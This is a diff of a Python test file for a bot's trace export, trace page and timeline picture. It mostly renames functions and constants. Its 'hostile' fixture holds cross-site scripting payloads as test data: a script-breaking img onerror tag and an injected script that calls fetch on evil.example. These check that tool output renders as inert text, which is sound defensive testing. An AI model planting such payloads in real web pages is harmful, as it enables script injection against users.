@@ -16,11 +16,11 @@ from PIL import Image
 from bot.store.values import LogEntry
 from bot.tracing.cut_texts import choose_text_limit, cut_all_texts, cut_text
 from bot.tracing.export import VERSION, dump_trace, export_job_trace, export_trace
-from bot.tracing.picture import NOTHING_TO_DRAW, draw_picture
+from bot.tracing.picture import NOTHING_TO_DRAW_TEXT, draw_picture
 from bot.tracing.picture_layout import MAX_LANES, TRACK_WIDTH, describe_picture, lay_out_picture
 from bot.tracing.time_scale import make_time_scale
-from bot.tracing.trace_page import MAX_CHARACTERS, render_trace_page
-from bot.tracing.whole_trace import Trace, read_trace
+from bot.tracing.trace_page import MAX_PAGE_CHARS, render_trace_page
+from bot.tracing.whole_trace import Trace, derive_trace
 from handoff.contracts import ToolCall
 from tests.tracing.made_logs import RECORDED, T0, Log, a_day, a_long_wait, entries, long_log, part, recorded
 
@@ -31,7 +31,7 @@ SCHEMA = json.loads((ROOT / "docs/trace-schema.json").read_text(encoding="utf-8"
 @pytest.fixture(scope="module")
 def long_trace() -> Trace:
     log = entries(long_log())
-    return read_trace(log)
+    return derive_trace(log)
 
 
 def hostile() -> Trace:
@@ -42,7 +42,7 @@ def hostile() -> Trace:
     log.start(1.1, "a", "reader")
     log.turn(2.0, "a", 0.5, ToolCall(id="c", name="fetch", arguments={"url": "</script><img src=x onerror=alert(2)>"}))
     log.tool(3.0, "a", "c", "{{script}} </script><script>fetch('https://evil.example')</script> <!-- ]]> \u2028")
-    return read_trace(entries(log.events))
+    return derive_trace(entries(log.events))
 
 
 def data_of(page: str) -> dict[str, object]:
@@ -57,7 +57,7 @@ def test_the_export_keeps_the_documented_schema() -> None:
     assert SCHEMA["properties"]["version"] == {"const": VERSION}
     broken = entries(a_day())
     broken[20] = LogEntry(21, '{"type":"RequestFailed","request":"\\ud800"}')
-    traces = [read_trace(log) for log in (*map(recorded, RECORDED), entries(a_day()), broken, [])]
+    traces = [derive_trace(log) for log in (*map(recorded, RECORDED), entries(a_day()), broken, [])]
     for trace in traces:
         jsonschema.validate(json.loads(json.dumps(export_trace(trace))), SCHEMA)
     assert export_trace(traces[-2])["unreadable"] == {"from_seq": 21, "entries": len(broken) - 20}
@@ -93,7 +93,7 @@ def test_what_tools_said_stays_text_in_the_page_and_only_its_own_script_may_run(
 
 def test_ten_thousand_steps_make_a_page_and_an_export_of_a_size_that_opens(long_trace: Trace) -> None:
     page = render_trace_page(long_trace)
-    assert len(page) < 2 * MAX_CHARACTERS
+    assert len(page) < 2 * MAX_PAGE_CHARS
     spans = data_of(page)["spans"]
     assert isinstance(spans, list)
     assert len(spans) == len(long_trace.spans) > 9_000
@@ -112,7 +112,7 @@ async def test_sixty_lanes_of_ten_thousand_steps_make_a_picture_that_can_be_read
 
 
 def test_the_picture_tells_waits_retries_and_the_critical_path_apart_by_more_than_colour() -> None:
-    layout = lay_out_picture(read_trace(entries(a_day())))
+    layout = lay_out_picture(derive_trace(entries(a_day())))
     styles = {lane["name"]: [bar["style"] for row in lane["rows"] for bar in row] for lane in layout["lanes"]}
     assert styles["researcher"] == ["failed", "pause", "work"]
     assert styles["writer"] == ["work", "wait"]
@@ -122,14 +122,14 @@ def test_the_picture_tells_waits_retries_and_the_critical_path_apart_by_more_tha
 
 
 def test_the_picture_is_described_in_words() -> None:
-    words = describe_picture(read_trace(entries(a_day())))
+    words = describe_picture(derive_trace(entries(a_day())))
     assert "5 specialists side by side: 1.5x faster than one by one" in words
     assert "researcher: 20 s · $0.0090 · waited 6.0 s · 2 attempts" in words
     assert words.endswith("The end waited for: supervisor, legal, legal/checker, writer")
 
 
 def test_two_days_of_waiting_leave_room_for_the_work() -> None:
-    trace = read_trace(entries(a_long_wait()))
+    trace = derive_trace(entries(a_long_wait()))
     (figures,) = trace.requests
     scale = make_time_scale(trace.spans, figures.start, figures.end or 0.0)
     ((begin, end, seconds),) = scale.breaks
@@ -142,5 +142,5 @@ def test_two_days_of_waiting_leave_room_for_the_work() -> None:
 
 
 async def test_where_nothing_can_be_read_there_is_no_picture_and_it_says_so() -> None:
-    assert await draw_picture(read_trace([LogEntry(1, "no JSON")])) == NOTHING_TO_DRAW
-    assert "cannot be read" in render_trace_page(read_trace([LogEntry(1, "no JSON")]))
+    assert await draw_picture(derive_trace([LogEntry(1, "no JSON")])) == NOTHING_TO_DRAW_TEXT
+    assert "cannot be read" in render_trace_page(derive_trace([LogEntry(1, "no JSON")]))
